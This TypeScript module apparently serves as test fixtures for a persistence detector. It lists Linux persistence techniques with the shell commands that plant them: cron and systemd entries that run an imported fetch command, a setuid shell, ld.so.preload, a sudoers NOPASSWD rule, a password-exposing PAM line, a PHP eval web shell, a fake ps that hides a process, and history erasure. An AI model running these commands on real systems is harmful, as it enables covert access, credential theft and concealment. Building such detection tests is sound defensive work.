import { append, FETCH, type Plant, write } from './plant.ts';

const DROPPED = '/var/tmp/.x11/kworkerds';
/** What entries start: a script that waits and ends by itself. */
const DROP = `mkdir -p /var/tmp/.x11; printf '#!/bin/sh\\nexec sleep 900\\n' >${DROPPED}; chmod 755 ${DROPPED}`;

const unit = (name: string, text: string, wants: string): string =>
  `${write(`/etc/systemd/system/${name}`, text)}
mkdir -p /etc/systemd/system/${wants}.wants; ln -sf ../${name} /etc/systemd/system/${wants}.wants/${name}`;
const SERVICE = `[Unit]\nDescription=D-Bus\n[Service]\nExecStart=${DROPPED}\nRestart=always\n[Install]\nWantedBy=multi-user.target`;

/** What starts by itself, and the files that it is made of. */
export const STARTING: readonly Plant[] = [
  {
    mechanism: 'crontab',
    name: 'a file in cron.d',
    paths: ['/etc/cron.d/perfclean'],
    plant: write('/etc/cron.d/perfclean', `* * * * * root ${FETCH}`, '600'),
  },
  {
    mechanism: 'crontab',
    name: 'a line in the crontab of root, among others',
    paths: ['/var/spool/cron/crontabs/root'],
    plant: write(
      '/var/spool/cron/crontabs/root',
      `0 3 * * * /usr/bin/true\n*/5 * * * * ${FETCH}\n0 4 * * * /usr/bin/false`,
      '600',
    ),
  },
  {
    mechanism: 'crontab',
    name: 'a line in /etc/crontab',
    paths: ['/etc/crontab'],
    plant: append('/etc/crontab', `*/7 * * * * root ${FETCH}`),
  },
  {
    mechanism: 'cron-script',
    name: 'a script in cron.hourly',
    paths: ['/etc/cron.hourly/logs'],
    plant: write('/etc/cron.hourly/logs', `#!/bin/sh\n${FETCH}`, '755'),
  },
  {
    mechanism: 'immutable-file',
    name: 'an immutable file in cron.d',
    paths: ['/etc/cron.d/stays'],
    plant: `${write('/etc/cron.d/stays', `* * * * * root ${FETCH}`)}; chattr +i /etc/cron.d/stays`,
  },
  {
    mechanism: 'shell-start-line',
    name: 'a line in the profile of root',
    paths: ['/root/.bashrc'],
    plant: append('/root/.bashrc', `(${FETCH}) >/dev/null 2>&1 &`),
  },
  {
    mechanism: 'shell-start-line',
    name: 'a script in profile.d',
    paths: ['/etc/profile.d/lang.sh'],
    plant: write('/etc/profile.d/lang.sh', FETCH),
  },
  {
    mechanism: 'rc-local',
    name: 'rc.local',
    paths: ['/etc/rc.local'],
    plant: write('/etc/rc.local', `#!/bin/sh\n${FETCH}\nexit 0`, '755'),
  },
  {
    mechanism: 'init-script',
    name: 'an init script',
    paths: ['/etc/init.d/sysupdate'],
    plant: write('/etc/init.d/sysupdate', `#!/bin/sh\n${FETCH}`, '755'),
  },
  {
    mechanism: 'udev-rule',
    name: 'a udev rule',
    paths: ['/etc/udev/rules.d/99-disk.rules'],
    plant: write('/etc/udev/rules.d/99-disk.rules', `ACTION=="add", RUN+="/bin/sh -c '${FETCH}'"`),
  },
  {
    mechanism: 'motd-script',
    name: 'a message of the day',
    paths: ['/etc/update-motd.d/99-news'],
    plant: write('/etc/update-motd.d/99-news', `#!/bin/sh\n${FETCH}`, '755'),
  },
  {
    mechanism: 'desktop-autostart',
    name: 'a desktop autostart',
    paths: ['/etc/xdg/autostart/sync.desktop'],
    plant: write(
      '/etc/xdg/autostart/sync.desktop',
      `[Desktop Entry]\nType=Application\nExec=/bin/sh -c "${FETCH}"`,
    ),
  },
  {
    mechanism: 'package-hook',
    name: 'a hook of apt',
    paths: ['/etc/apt/apt.conf.d/99sync'],
    plant: write('/etc/apt/apt.conf.d/99sync', `APT::Update::Pre-Invoke {"${FETCH}";};`),
  },
  {
    mechanism: 'unit',
    name: 'a unit that is enabled',
    paths: ['/etc/systemd/system/dbus-0rg.service', DROPPED],
    unit: 'dbus-0rg.service',
    plant: `${DROP}; ${unit('dbus-0rg.service', SERVICE, 'multi-user.target')}`,
  },
  {
    mechanism: 'unit',
    name: 'a unit that runs',
    paths: ['/etc/systemd/system/netd-sync.service'],
    unit: 'netd-sync.service',
    needsSystemd: true,
    plant: `${DROP}; ${unit('netd-sync.service', SERVICE, 'multi-user.target')}; systemctl daemon-reload; systemctl start netd-sync.service`,
  },
  {
    mechanism: 'timer',
    name: 'a timer that runs',
    paths: ['/etc/systemd/system/netd-time.timer', '/etc/systemd/system/netd-time.service'],
    unit: 'netd-time.timer',
    needsSystemd: true,
    plant: `${write('/etc/systemd/system/netd-time.service', `[Service]\nType=oneshot\nExecStart=/bin/sh -c '${FETCH}'`)}
${unit('netd-time.timer', '[Timer]\nOnUnitActiveSec=1d\nOnActiveSec=1d\n[Install]\nWantedBy=timers.target', 'timers.target')}
systemctl daemon-reload; systemctl start netd-time.timer`,
  },
  {
    mechanism: 'preload-entry',
    name: 'a preloaded library',
    paths: ['/etc/ld.so.preload'],
    plant: `cp /usr/lib/*/libdl.so.2 /usr/local/lib/libproc.so; touch -d @1600000000.5 /usr/local/lib/libproc.so\n${write('/etc/ld.so.preload', '/usr/local/lib/libproc.so')}`,
  },
  {
    mechanism: 'set-id-program',
    name: 'a shell with a set-id bit',
    paths: ['/usr/local/bin/.sysd'],
    plant: `cp /bin/dash /usr/local/bin/.sysd; chmod 4755 /usr/local/bin/.sysd; touch -d @1600000000.25 /usr/local/bin/.sysd`,
  },
  {
    mechanism: 'set-id-program',
    name: 'a set-id bit on a packaged program',
    paths: ['/usr/bin/find'],
    plant: 'chmod u+s /usr/bin/find',
  },
  {
    mechanism: 'capability',
    name: 'a capability on a packaged program',
    paths: ['/usr/bin/perl'],
    plant: 'setcap cap_setuid=ep /usr/bin/perl',
  },
  {
    mechanism: 'systemd-generator',
    name: 'a systemd generator',
    paths: ['/etc/systemd/system-generators/sync'],
    plant: write('/etc/systemd/system-generators/sync', `#!/bin/sh\n${FETCH}`, '755'),
  },
  {
    mechanism: 'unit-drop-in',
    name: 'a drop-in of a packaged unit',
    paths: ['/etc/systemd/system/cron.service.d/env.conf'],
    plant: write(
      '/etc/systemd/system/cron.service.d/env.conf',
      `[Service]\nExecStartPre=/bin/sh -c "${FETCH}"`,
    ),
  },
  {
    mechanism: 'at-job',
    name: 'a job of at',
    paths: ['/var/spool/cron/atjobs/a0000101abcdef'],
    plant: write('/var/spool/cron/atjobs/a0000101abcdef', `#!/bin/sh\n${FETCH}`, '700'),
  },
  {
    mechanism: 'initramfs-hook',
    name: 'a hook of the initramfs',
    paths: ['/etc/initramfs-tools/hooks/zz'],
    plant: write('/etc/initramfs-tools/hooks/zz', `#!/bin/sh\n${FETCH}`, '755'),
  },
  {
    mechanism: 'library-folder',
    name: 'a folder of libraries',
    paths: ['/etc/ld.so.conf.d/00-local.conf'],
    plant: write('/etc/ld.so.conf.d/00-local.conf', '/tmp/.lib'),
  },
  {
    mechanism: 'dbus-service',
    name: 'a service of D-Bus',
    paths: ['/usr/share/dbus-1/system-services/org.sync.service'],
    plant: write(
      '/usr/share/dbus-1/system-services/org.sync.service',
      `[D-BUS Service]\nName=org.sync\nUser=root\nExec=/bin/sh -c "${FETCH}"`,
    ),
  },
  {
    mechanism: 'network-script',
    name: 'a script of the network',
    paths: ['/etc/network/if-up.d/sync'],
    plant: write('/etc/network/if-up.d/sync', `#!/bin/sh\n${FETCH}`, '755'),
  },
  {
    mechanism: 'python-start-up',
    name: 'a start-up file of Python',
    paths: ['/usr/local/lib/python3.11/dist-packages/zz.pth'],
    plant: write('/usr/local/lib/python3.11/dist-packages/zz.pth', `import os; os.system("${FETCH}")`),
  },
  {
    mechanism: 'sudo-rule',
    name: 'a rule for sudo',
    paths: ['/etc/sudoers.d/zz'],
    plant: write('/etc/sudoers.d/zz', 'www-data ALL=(ALL) NOPASSWD: ALL', '440'),
  },
  {
    mechanism: 'pam-line',
    name: 'a line of PAM',
    paths: ['/etc/pam.d/common-auth'],
    plant: append('/etc/pam.d/common-auth', 'auth optional pam_exec.so quiet expose_authtok /var/tmp/.log'),
  },
  {
    mechanism: 'web-shell',
    name: 'a page that runs what it is sent',
    paths: ['/var/www/html/up.php'],
    plant: write('/var/www/html/up.php', '<?php @eval($_POST["x"]); ?>'),
  },
  {
    mechanism: 'hosts-line',
    name: 'names that are sunk',
    paths: ['/etc/hosts'],
    plant: append('/etc/hosts', '0.0.0.0 deb.debian.org'),
  },
  {
    mechanism: 'shadowing-tool',
    name: 'a fake tool before the real one',
    paths: ['/usr/local/bin/ps'],
    plant: write('/usr/local/bin/ps', '#!/bin/sh\n/usr/bin/ps "$@" | grep -v kworkerds', '755'),
  },
  {
    mechanism: 'cut-log',
    name: 'a history that is not kept',
    paths: ['/root/.bash_history'],
    plant: 'ln -sf /dev/null /root/.bash_history',
  },
];
